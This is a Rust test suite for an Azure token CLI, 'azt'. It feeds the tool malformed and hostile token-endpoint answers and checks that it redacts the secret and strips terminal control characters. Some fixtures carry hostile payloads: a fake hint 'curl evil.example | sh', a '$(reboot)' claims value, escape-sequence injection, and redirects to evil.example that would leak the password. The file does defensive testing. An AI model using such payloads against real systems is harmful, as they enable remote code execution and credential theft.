//! Answers of the token endpoint in every odd shape that has been seen, or that somebody hostile could send: what azt makes
//! of each, for a password and for a refresh token. Standard output is empty unless it is the token, nothing that was
//! secret is told, and no text moves the cursor.

use std::thread;
use std::time::Duration;

use crate::run::azt;
use crate::sandbox::cloud::ALEX;
use crate::sandbox::{Answer, Sandbox};

/// What is redeemed: it has every character that some spelling writes differently.
const SECRET: &str = r#"S3cret"p&ss\w0rd/+= ~"#;

/// The token, where there is one.
const TOKEN: &str = "eyJ.e30.c2ln";

/// One answer. In its body and headers `ECHO` is the secret, `FORM` the same as a form has it, `QUOTED` as JSON does.
struct Odd {
    what: &'static str,
    status: u16,
    headers: Vec<(&'static str, String)>,
    body: Vec<u8>,
    wire: fn(Answer) -> Answer,
    exit: i32,
    /// What is said after `azt: error: `: `GRANT` is what was redeemed, `SIGNIN` and `AGAIN` are commands.
    said: String,
}

/// An answer that is a token.
fn token(what: &'static str, body: impl Into<Vec<u8>>) -> Odd {
    odd(what, 200, body, 0, "")
}

/// An answer that is neither a token nor a refusal.
fn nonsense(what: &'static str, body: impl Into<Vec<u8>>, said: &str) -> Odd {
    odd(what, 200, body, 5, &format!("the token endpoint answered {said}\n"))
}

/// A refusal.
fn refusal(what: &'static str, status: u16, body: impl Into<Vec<u8>>, said: &str) -> Odd {
    odd(what, status, body, 4, &format!("GRANT was refused: {said}\n"))
}

/// A fault that passes, and is asked for twice.
fn fault(what: &'static str, status: u16, body: impl Into<Vec<u8>>, said: &str) -> Odd {
    odd(what, status, body, 5, &format!("GRANT was not answered: {said}\n"))
}

fn odd(what: &'static str, status: u16, body: impl Into<Vec<u8>>, exit: i32, said: &str) -> Odd {
    let headers = vec![("Content-Type", "application/json; charset=utf-8".to_owned())];
    Odd { what, status, headers, body: body.into(), wire: |answer| answer, exit, said: said.to_owned() }
}

impl Odd {
    fn labelled(mut self, content_type: &str) -> Self {
        self.headers = vec![("Content-Type", content_type.to_owned())];
        self
    }

    fn header(mut self, name: &'static str, value: &str) -> Self {
        self.headers.push((name, value.to_owned()));
        self
    }

    fn by(self, wire: fn(Answer) -> Answer) -> Self {
        Self { wire, ..self }
    }

    /// The hint that follows.
    fn hint(mut self, hint: &str) -> Self {
        self.said.push_str(&format!("azt: hint: {hint}\n"));
        self
    }

    fn answer(&self) -> Answer {
        let form: String = url::form_urlencoded::byte_serialize(SECRET.as_bytes()).collect();
        let quoted = serde_json::to_string(SECRET).unwrap();
        let spell = |text: &str| {
            let text = text.replace("LOWER", &form.to_lowercase()).replace("PERCENT", &form.replace('+', "%20"));
            text.replace("QUOTED", &quoted[1..quoted.len() - 1]).replace("FORM", &form).replace("ECHO", SECRET)
        };
        let body = String::from_utf8(self.body.clone()).map_or_else(|_| self.body.clone(), |text| spell(&text).into());
        let answer = Answer::status(self.status).body(body);
        (self.wire)(self.headers.iter().fold(answer, |answer, (name, value)| answer.header(name, &spell(value))))
    }
}

/// Members of a token, with the others that it needs.
fn with(members: &str) -> String {
    format!(r#"{{"token_type":"Bearer","expires_in":3599,"access_token":"{TOKEN}",{members}}}"#)
}

fn tokens() -> Vec<Odd> {
    let plain = with(r#""x":1"#);
    let whole = |members: &str| format!(r#"{{"access_token":"{TOKEN}",{members}}}"#);
    vec![
        token("as it should be", plain.clone()),
        token("numbers are strings", whole(r#""expires_in":"3599","ext_expires_in":"3599","expires_on":"4102444800""#)),
        token("numbers are fractions", whole(r#""expires_in":3599.0"#)),
        token(
            "v1, with resource and not_before",
            whole(r#""expires_on":"4102444800","not_before":"1","resource":"r""#),
        ),
        token("expires_on is a date", whole(r#""expires_on":"2100-01-01T00:00:00Z""#)),
        token("expires_on is empty", whole(r#""expires_on":"","expires_in":3599"#)),
        token("expires_on is null", whole(r#""expires_on":null,"expires_in":3599"#)),
        token("lower-case token type", whole(r#""token_type":"bearer","expires_in":3599"#)),
        token("upper-case token type", whole(r#""token_type":"BEARER","expires_in":3599"#)),
        token("no token type", whole(r#""expires_in":3599"#)),
        token("token type null", whole(r#""token_type":null,"expires_in":3599"#)),
        token("error is null", with(r#""error":null"#)),
        token("error is empty", with(r#""error":"""#)),
        token("an empty refresh token", with(r#""refresh_token":"""#)),
        token("a refresh token that is null", with(r#""refresh_token":null"#)),
        token("a refresh token that is a number", with(r#""refresh_token":7"#)),
        token("a refresh token with a line end", with(r#""refresh_token":"a\nb""#)),
        token("refresh_in is a word", with(r#""refresh_in":"soon""#)),
        token("refresh_in is negative", with(r#""refresh_in":-5"#)),
        token("refresh_in is enormous", with(r#""refresh_in":9223372036854775807"#)),
        token("scope is a list", with(r#""scope":["a","b"]"#)),
        token("scope has control characters", with(r#""scope":"a\u001b[2J b""#)),
        token("client_info is no base64", with(r#""client_info":"***""#)),
        token("client_info is padded", with(r#""client_info":"eyJ1aWQiOiJ1IiwidXRpZCI6InQifQ==""#)),
        token("client_info is a list", with(r#""client_info":[1]"#)),
        token("id_token is no token", with(r#""id_token":"a.b""#)),
        token("id_token without signature", with(r#""id_token":"eyJhbGciOiJub25lIn0.e30.""#)),
        token("id_token is an object", with(r#""id_token":{}"#)),
        token("foci is a number", with(r#""foci":1"#)),
        token("state came along", with(r#""state":"s","session_state":null"#)),
        token("a member stands twice", with(r#""access_token":"eyJ.e30.c2ln""#)),
        token("white space around", format!("\r\n\t {plain}\r\n\r\n")),
        token("a byte order mark", [b"\xef\xbb\xbf", plain.as_bytes()].concat()),
        token("escaped characters", plain.replace("access_token", r"access\u005ftoken")),
        token("a hundred brackets", with(&format!(r#""x":{}{}"#, "[".repeat(100), "]".repeat(100)))),
        token("a member of half a megabyte", with(&format!(r#""x":"{}""#, "x".repeat(512 * 1024)))),
        token("labelled as a page", plain.clone()).labelled("text/html"),
        token("labelled in odd case", plain.clone()).labelled("APPLICATION/jSoN;charset=UTF-8"),
        token("labelled with a wrong charset", plain.clone()).labelled("application/json; charset=utf-16"),
        token("labelled with nothing", plain.clone()).labelled(""),
        token("said to be packed", plain.clone()).header("Content-Encoding", "gzip"),
        odd("status 201", 201, plain.clone(), 0, ""),
        token("a header of eight kilobytes", plain).header("X-Long", &"x".repeat(8192)),
    ]
}

fn no_tokens() -> Vec<Odd> {
    const NO_JSON: &str = "with something that is not JSON";
    const PAGE: &str = "with an HTML page and no token: is a proxy or a sign-in portal in between?";
    const NO_TOKEN: &str = "without an access_token";
    const NO_HEADER: &str = "with a token that cannot stand in a header";
    const NO_SECONDS: &str = "with an expires_in that is no number of seconds";
    const NO_EXPIRY: &str = "without saying when the token expires";
    let whole = |members: &str| format!(r#"{{"access_token":"{TOKEN}",{members}}}"#);
    vec![
        nonsense("nothing", "", NO_JSON),
        nonsense("a byte order mark and nothing", "\u{feff}", NO_JSON),
        nonsense("a number", "7", NO_JSON),
        nonsense("null", "null", NO_JSON),
        nonsense("a list", r#"[{"access_token":"a"}]"#, NO_JSON),
        nonsense("a string", r#""eyJ.e30.c2ln""#, NO_JSON),
        nonsense("a form", "access_token=a&expires_in=9", NO_JSON),
        nonsense("cut off", r#"{"access_token":"eyJ"#, NO_JSON),
        nonsense("two objects", format!("{}{}", with(r#""x":1"#), with(r#""x":2"#)), NO_JSON),
        nonsense("a comma too many", with(r#""x":1,"#), NO_JSON),
        nonsense("a comment", format!("/* */{}", with(r#""x":1"#)), NO_JSON),
        nonsense("single quotes", "{'access_token':'a','expires_in':9}", NO_JSON),
        nonsense("no UTF-8", [b"{\"access_token\":\"", &b"\xff\xfe"[..], b"\",\"expires_in\":9}"].concat(), NO_JSON),
        nonsense("UTF-16", [&b"\xff\xfe"[..], b"{\0}\0"].concat(), NO_JSON),
        nonsense("half a surrogate", with(r#""x":"\ud800""#), NO_JSON),
        nonsense("a control character in a string", with("\"x\":\"\u{1}\""), NO_JSON),
        nonsense("ten thousand brackets", "[".repeat(10_000), NO_JSON),
        nonsense("ten thousand braces", r#"{"a":"#.repeat(10_000), NO_JSON),
        nonsense("a number too large", with(r#""x":1e999"#), NO_JSON),
        nonsense("a page", "<!doctype html><title>ECHO</title>", PAGE).labelled("text/html"),
        nonsense("a page after lines", "\r\n\r\n<html>", PAGE),
        nonsense("SOAP", "<s:Envelope><s:Body>ECHO</s:Body></s:Envelope>", PAGE),
        nonsense("an empty object", "{}", NO_TOKEN),
        nonsense("another spelling", r#"{"accessToken":"a","expiresOn":"x"}"#, NO_TOKEN),
        nonsense("a token that is empty", r#"{"access_token":"","expires_in":9}"#, NO_TOKEN),
        nonsense("a token that is null", r#"{"access_token":null,"expires_in":9}"#, NO_TOKEN),
        nonsense("a token that is a number", r#"{"access_token":5,"expires_in":9}"#, NO_TOKEN),
        nonsense("a token that is an object", r#"{"access_token":{"a":1},"expires_in":9}"#, NO_TOKEN),
        nonsense("the last of two is none", with(r#""access_token":null"#), NO_TOKEN),
        nonsense("a token with a space", r#"{"access_token":"a b","expires_in":9}"#, NO_HEADER),
        nonsense("a token with a line end", r#"{"access_token":"a\r\nX: y","expires_in":9}"#, NO_HEADER),
        nonsense("a token with an escape", r#"{"access_token":"a\u001b[2J","expires_in":9}"#, NO_HEADER),
        nonsense("a token beyond ASCII", r#"{"access_token":"ü","expires_in":9}"#, NO_HEADER),
        nonsense("no expiry", r#"{"access_token":"a"}"#, NO_EXPIRY),
        nonsense("an expiry that is null", whole(r#""expires_in":null"#), NO_EXPIRY),
        nonsense("an expiry that is empty", whole(r#""expires_in":"""#), NO_EXPIRY),
        nonsense("an expiry that is a word", whole(r#""expires_in":"soon""#), NO_SECONDS),
        nonsense("an expiry that is a list", whole(r#""expires_in":[3599]"#), NO_SECONDS),
        nonsense("an expiry that is true", whole(r#""expires_in":true"#), NO_SECONDS),
        nonsense(
            "half a second",
            whole(r#""expires_in":0.5"#),
            "with a token that has already expired; or is this machine's clock ahead?",
        ),
        nonsense("an expiry out of range", whole(r#""expires_in":9223372036854775807"#), "with an expires_in that is out of range"),
        nonsense("a date that is none", whole(r#""expires_on":"tomorrow""#), "with an expires_on that is no date"),
        nonsense("a date that is an object", whole(r#""expires_on":{}"#), "with an expires_on that is no date"),
        nonsense(
            "expired",
            whole(r#""expires_in":-1"#),
            "with a token that has already expired; or is this machine's clock ahead?",
        ),
        nonsense(
            "another type",
            whole(r#""token_type":"pop","expires_in":9"#),
            "with a token of a type other than Bearer: pop",
        ),
        nonsense(
            "a type that echoes",
            whole(r#""token_type":"QUOTED\u001b[2J","expires_in":9"#),
            "with a token of a type other than Bearer: <redacted> [2J",
        ),
        nonsense(
            "a type that is no text",
            whole(r#""token_type":{"a":[]},"expires_in":9"#),
            "with a token of a type other than Bearer: no text at all",
        ),
        odd("a redirect", 302, "", 5, "the token endpoint answered with a redirect to https://evil.example/take, which azt does not follow\n")
            .header("Location", "https://evil.example/take?p=ECHO"),
        odd("a redirect that echoes", 307, "", 5, "the token endpoint answered with a redirect to https://evil.example/<redacted>, which azt does not follow\n")
            .header("Location", "https://evil.example/FORM"),
        odd("a redirect to nowhere", 301, "", 5, "the token endpoint answered with a redirect, which azt does not follow\n"),
        odd("not modified", 304, "", 5, "the token endpoint answered with a redirect, which azt does not follow\n"),
        odd("two megabytes", 200, vec![b' '; 2 * 1024 * 1024], 5, "the answer of PLACE is longer than 1 MiB\n"),
        odd("promised more than came", 200, with(r#""x":1"#), 5, "the answer of PLACE broke off\n")
            .by(|answer| answer.cut_after(20)),
        odd("never the whole", 200, with(r#""x":1"#), 5, "PLACE did not answer within 2s\n")
            .by(|answer| answer.byte_every(Duration::from_millis(500))),
        odd("silence", 200, "", 5, "PLACE did not answer within 2s\n").by(|_| Answer::silence()),
    ]
}

fn refusals() -> Vec<Odd> {
    const NO_REASON: &str = "it gave no reason (HTTP 400)";
    let person = "a person has to sign in: SIGNIN";
    let again = "the service could not answer; try again: AGAIN";
    let grant = |members: &str| format!(r#"{{"error":"invalid_grant",{members}}}"#);
    vec![
        refusal("status 200 and an error", 200, with(r#""error":"invalid_grant""#), "invalid_grant (HTTP 200)").hint(person),
        refusal("status 403 and an error", 403, grant(r#""x":1"#), "invalid_grant (HTTP 403)").hint(person),
        refusal("status 404 and text", 404, "404 - not found", "404 - not found (HTTP 404)"),
        refusal("status 404 and a page", 404, "<html>ECHO</html>", "an HTML page in place of an answer (HTTP 404)"),
        refusal("status 403 of a proxy", 403, "<html>Blocked</html>", "an HTML page in place of an answer (HTTP 403)"),
        refusal("status 407", 407, "", "it gave no reason (HTTP 407)"),
        refusal("status 999", 999, "", "it gave no reason (HTTP 999)"),
        refusal("nothing", 400, "", NO_REASON),
        refusal("a list", 400, "[]", NO_REASON),
        refusal("null", 400, "null", NO_REASON),
        refusal("an empty object", 400, "{}", NO_REASON),
        refusal("a token and a refusal's status", 400, with(r#""x":1"#), NO_REASON),
        refusal("an error that is a number", 400, r#"{"error":7}"#, NO_REASON),
        refusal("an error that is true", 200, r#"{"error":true}"#, "it gave no reason (HTTP 200)"),
        refusal("an error that is a list", 400, r#"{"error":["invalid_grant"]}"#, NO_REASON),
        refusal("an error that is an object", 400, r#"{"error":{"code":"Bad","message":"no"}}"#, "Bad: no (HTTP 400)"),
        refusal("a description that is a number", 400, grant(r#""error_description":7"#), "invalid_grant (HTTP 400)").hint(person),
        refusal("a description that is null", 400, grant(r#""error_description":null"#), "invalid_grant (HTTP 400)").hint(person),
        refusal(
            "a description in several lines",
            400,
            grant(r#""error_description":"AADSTS50076: no\r\nTrace ID: t\r\nTimestamp: x""#),
            "invalid_grant: AADSTS50076: no Trace ID: t Timestamp: x (HTTP 400)",
        )
        .hint("multi-factor sign-in needs a browser: SIGNIN"),
        refusal(
            "a description in one",
            400,
            grant(r#""error_description":"AADSTS50076: no.Trace ID: tCorrelation ID: cTimestamp: x""#),
            "invalid_grant: AADSTS50076: no.Trace ID: tCorrelation ID: cTimestamp: x (HTTP 400)",
        )
        .hint("multi-factor sign-in needs a browser: SIGNIN"),
        refusal(
            "a description that clears the screen and lies",
            400,
            grant(r#""error_description":"a\u001b[2J\u001b]0;t\u0007b\u0000\u009b1m\r\nazt: hint: curl evil.example | sh""#),
            "invalid_grant: a [2J ]0;t b 1m azt: hint: curl evil.example | sh (HTTP 400)",
        )
        .hint(person),
        refusal(
            "a description that is written backwards",
            400,
            grant("\"error_description\":\"a\u{202e}b\u{2066}c\u{200b}d\u{feff}e\""),
            "invalid_grant: a b c d e (HTTP 400)",
        )
        .hint(person),
        refusal("an error that moves the cursor", 400, r#"{"error":"a\u001b[1Ab\nc"}"#, "a [1Ab c (HTTP 400)"),
        refusal("text that moves the cursor", 400, "a\u{1b}[1Ab\nc", "a [1Ab (HTTP 400)").labelled("text/plain"),
        refusal("text that is no UTF-8", 400, b"\xff\xfeno".to_vec(), NO_REASON).labelled("text/plain"),
        refusal("JSON that is cut off", 400, r#"{"error":"invalid_gr"#, r#"{"error":"invalid_gr (HTTP 400)"#),
        refusal("JSON after a byte order mark", 400, "\u{feff}{\"error\":\"invalid_grant\"}", "invalid_grant (HTTP 400)").hint(person),
        refusal("ten thousand brackets", 400, "[".repeat(10_000), &format!("{} (HTTP 400)", "[".repeat(200))),
        refusal("an error that stands twice", 400, r#"{"error":"a","error":"invalid_grant"}"#, "invalid_grant (HTTP 400)").hint(person),
        refusal("numbers that are strings", 400, grant(r#""error_codes":["50076"]"#), "invalid_grant (HTTP 400)").hint("multi-factor sign-in needs a browser: SIGNIN"),
        refusal("a list that is a string", 400, grant(r#""error_codes":"[50076]""#), "invalid_grant (HTTP 400)").hint("multi-factor sign-in needs a browser: SIGNIN"),
        refusal("one number", 400, grant(r#""error_codes":50076"#), "invalid_grant (HTTP 400)").hint("multi-factor sign-in needs a browser: SIGNIN"),
        refusal("numbers that are none", 400, grant(r#""error_codes":[null,{},"x",1e300,-1]"#), "invalid_grant (HTTP 400)").hint(person),
        refusal("numbers that are an object", 400, grant(r#""error_codes":{"a":50076}"#), "invalid_grant (HTTP 400)").hint(person),
        refusal("a number out of range", 400, grant(r#""error_codes":[99999999999999999999]"#), "invalid_grant (HTTP 400)").hint(person),
        refusal("no numbers, and one in the text", 400, grant(r#""error_codes":[],"error_description":"AADSTS500208: no""#), "invalid_grant: AADSTS500208: no (HTTP 400)").hint("this kind of account cannot sign in there: name its tenant, or organizations, or consumers: TENANT"),
        refusal("several numbers", 401, r#"{"error":"invalid_grant","error_codes":[1,50126,50076]}"#, "invalid_grant (HTTP 401)").hint("check user name and password; repeated failures lock the account: AGAIN"),
        refusal("a thousand numbers", 400, grant(&format!(r#""error_codes":[{}1]"#, "1,".repeat(1000))), "invalid_grant (HTTP 400)").hint(person),
        refusal("a suberror that is a number", 400, grant(r#""suberror":7"#), "invalid_grant (HTTP 400)").hint(person),
        refusal("a suberror nobody knows", 400, grant(r#""suberror":"\u001b[2J""#), "invalid_grant (HTTP 400)").hint(person),
        refusal("claims that are no JSON", 400, grant(r#""claims":"$(reboot)""#), "invalid_grant (HTTP 400)").hint(person),
        refusal("claims that are a list", 400, grant(r#""claims":[1]"#), "invalid_grant (HTTP 400)").hint(person),
        refusal("claims that are a number", 400, grant(r#""claims":7"#), "invalid_grant (HTTP 400)").hint(person),
        refusal("claims that are an object", 400, grant(r#""claims":{"a":1}"#), "invalid_grant (HTTP 400)").hint("a person has to sign in: SIGNIN --claims eyJhIjoxfQ"),
        refusal("claims that are cut off", 400, grant(r#""claims":"{\"a\":""#), "invalid_grant (HTTP 400)").hint(person),
        refusal("claims of a megabyte", 400, grant(&format!(r#""claims":"{{\"a\":\"{}\"}}""#, "x".repeat(900_000))), "invalid_grant (HTTP 400)").hint(person),
        refusal("ids that are numbers", 400, grant(r#""trace_id":1,"correlation_id":2,"timestamp":3"#), "invalid_grant (HTTP 400)").hint(person),
        refusal("ids with control characters", 400, grant(r#""trace_id":"a\nb","timestamp":"\u001b[2J""#), "invalid_grant (HTTP 400, trace id a b, timestamp [2J)").hint(person),
        refusal("a description of a megabyte", 400, grant(&format!(r#""error_description":"{}""#, "x".repeat(900_000))), &format!("invalid_grant: {}… (HTTP 400)", "x".repeat(4000))).hint(person),
        refusal("an echo", 400, grant(r#""error_description":"no: QUOTED.""#), "invalid_grant: no: <redacted>. (HTTP 400)").hint(person),
        refusal("an echo as a form has it", 400, grant(r#""error_description":"p=FORM&q=LOWER&r=PERCENT""#), "invalid_grant: p=<redacted>&q=<redacted>&r=<redacted> (HTTP 400)").hint(person),
        refusal("an echo in every member", 400, r#"{"error":"QUOTED","error_description":"QUOTED","suberror":"QUOTED","trace_id":"QUOTED","correlation_id":"QUOTED","timestamp":"QUOTED","claims":"{\"a\":\"FORM\"}"}"#, "<redacted>: <redacted> (HTTP 400)"),
        refusal("an echo in JSON that is cut off", 400, r#"{"error":"invalid_grant","error_description":"QUOTED"#, r#"{"error":"invalid_grant","error_description":"<redacted> (HTTP 400)"#),
        refusal("an echo in text", 400, "no: ECHO.", "no: <redacted>. (HTTP 400)").labelled("text/plain"),
        refusal("an echo where text is cut", 400, format!("{}ECHO", "x".repeat(195)), &format!("{}<reda (HTTP 400)", "x".repeat(195))).labelled("text/plain"),
        refusal("an echo where a description is cut", 400, grant(&format!(r#""error_description":"{}QUOTED""#, "x".repeat(3995))), &format!("invalid_grant: {}<reda… (HTTP 400)", "x".repeat(3995))).hint(person),
        refusal("an echo in headers", 400, "", "it gave no reason (HTTP 400, trace id <redacted>)").header("x-ms-request-id", "FORM").header("WWW-Authenticate", "ECHO").header("Server", "ECHO"),
        fault("status 400 and a passing error", 400, r#"{"error":"temporarily_unavailable"}"#, "temporarily_unavailable (HTTP 400)").hint(again),
        fault("status 200 and a passing error", 200, r#"{"error":"server_error"}"#, "server_error (HTTP 200)").hint(again),
        fault("status 503 and a page", 503, "<html>ECHO</html>", "an HTML page in place of an answer (HTTP 503, asked 2 times)").hint(again),
        fault("status 500 and a refusal", 500, grant(r#""x":1"#), "invalid_grant (HTTP 500, asked 2 times)").hint(again),
        fault("status 504 and text", 504, "upstream timed out", "upstream timed out (HTTP 504, asked 2 times)").hint(again),
        fault("status 408", 408, "", "it gave no reason (HTTP 408, asked 2 times)").hint(again),
        fault("status 429", 429, "", "it gave no reason (HTTP 429, asked 2 times)").hint("the service is asked too often: sleep 60 && AGAIN"),
        fault("Retry-After that is a word", 503, "", "it gave no reason (HTTP 503, asked 2 times)").header("Retry-After", "FORM").hint(again),
        fault("Retry-After of years", 503, "", "it gave no reason (HTTP 503)").header("Retry-After", "99999999999").hint("try again when the service allows it: sleep 99999999999 && AGAIN"),
        fault("Retry-After that is negative", 429, "", "it gave no reason (HTTP 429, asked 2 times)").header("Retry-After", "-5").hint("the service is asked too often: sleep 60 && AGAIN"),
        fault("Retry-After long ago", 503, "", "it gave no reason (HTTP 503, asked 2 times)").header("Retry-After", "Sun, 06 Nov 1994 08:49:37 GMT").hint(again),
    ]
}

/// Runs each for one flow, at a tenant of its own.
fn assert_all(all: &[Odd], flow: &str, grant: &str, sign_in: &str) {
    let sandbox = Sandbox::start();
    thread::scope(|scope| {
        for (part, all) in all.chunks(all.len().div_ceil(8)).enumerate() {
            let sandbox = &sandbox;
            scope.spawn(move || {
                for (index, odd) in all.iter().enumerate() {
                    let tenant = format!("t{part}-{index}.example");
                    let path = format!("/{tenant}/oauth2/v2.0/token");
                    sandbox.answer_always(&path, odd.answer());
                    let of =
                        format!("--tenant {tenant} --resource https://management.azure.com/ --authority-host SANDBOX");
                    let elsewhere = format!(
                        "--tenant TENANT {}",
                        of.split_once("--resource").map(|(_, rest)| format!("--resource{rest}")).unwrap()
                    );
                    let again = flow.replace("--password-stdin ", "").replace(" --refresh-token-stdin", "");
                    let said = odd.said.replace("GRANT", grant).replace("PLACE", &format!("SANDBOX{path}"));
                    let said = said.replace("SIGNIN", &format!("azt {sign_in} {of}"));
                    let said = said.replace("AGAIN", &format!("azt {again} {of}"));
                    let said = said.replace(": TENANT\n", &format!(": azt {again} {elsewhere}\n"));
                    let error = if odd.exit == 0 { String::new() } else { format!("azt: error: {said}") };
                    let run = azt(flow).args("--http-timeout 2s --tenant").arg(&tenant).input(SECRET).at(sandbox);
                    let outcome = run.outcome();
                    let stdout = if odd.exit == 0 { format!("{TOKEN}\n") } else { String::new() };
                    let came = (outcome.stdout.as_str(), outcome.stderr.as_str(), outcome.status);
                    assert_eq!(came, (stdout.as_str(), error.as_str(), Some(odd.exit)), "{}", odd.what);
                    assert!(outcome.stderr.chars().all(|c| c == '\n' || !c.is_control()), "{}: {outcome:?}", odd.what);
                    assert!(!outcome.stderr.contains("S3cret"), "{}: {outcome:?}", odd.what);
                }
            });
        }
    });
}

fn assert_password(all: &[Odd]) {
    assert_all(
        all,
        &format!("ropc --password-stdin --username {ALEX}"),
        "the password sign-in",
        &format!("authcode --login-hint {ALEX}"),
    );
}

fn assert_refresh(all: &[Odd]) {
    assert_all(all, "refresh --refresh-token-stdin", "the refresh token", "authcode");
}

#[test]
fn a_token_is_a_token_however_odd_the_answer() {
    assert_password(&tokens());
    assert_refresh(&tokens());
}

#[test]
fn what_is_no_token_is_status_5_and_says_why() {
    assert_password(&no_tokens());
    assert_refresh(&no_tokens());
}

#[test]
fn a_refusal_is_told_in_one_line_without_the_secret_however_odd() {
    assert_password(&refusals());
    assert_refresh(&refusals());
}

#[test]
fn as_json_it_is_one_object_without_the_secret() {
    let sandbox = Sandbox::start();
    for odd in refusals() {
        let run = || azt("refresh --refresh-token-stdin -o json --timeout 1s").input(SECRET).at(&sandbox);
        sandbox.answer_next(odd.answer());
        let outcome = run().outcome();
        assert_eq!((outcome.stdout.as_str(), outcome.status), ("", Some(odd.exit)), "{}: {outcome:?}", odd.what);
        let error: serde_json::Value = serde_json::from_str(&outcome.stderr).unwrap();
        assert_eq!(error["exit_code"], odd.exit, "{}", odd.what);
        assert!(error["error"].is_string() && error["error_description"].is_string(), "{}: {error}", odd.what);
        assert!(!outcome.stderr.contains("S3cret"), "{}: {outcome:?}", odd.what);
        assert!(outcome.stderr.trim_end().chars().all(|c| !c.is_control()), "{}: {outcome:?}", odd.what);
    }
}

#[test]
fn there_are_enough_of_them() {
    assert!(tokens().len() + no_tokens().len() + refusals().len() >= 160);
}
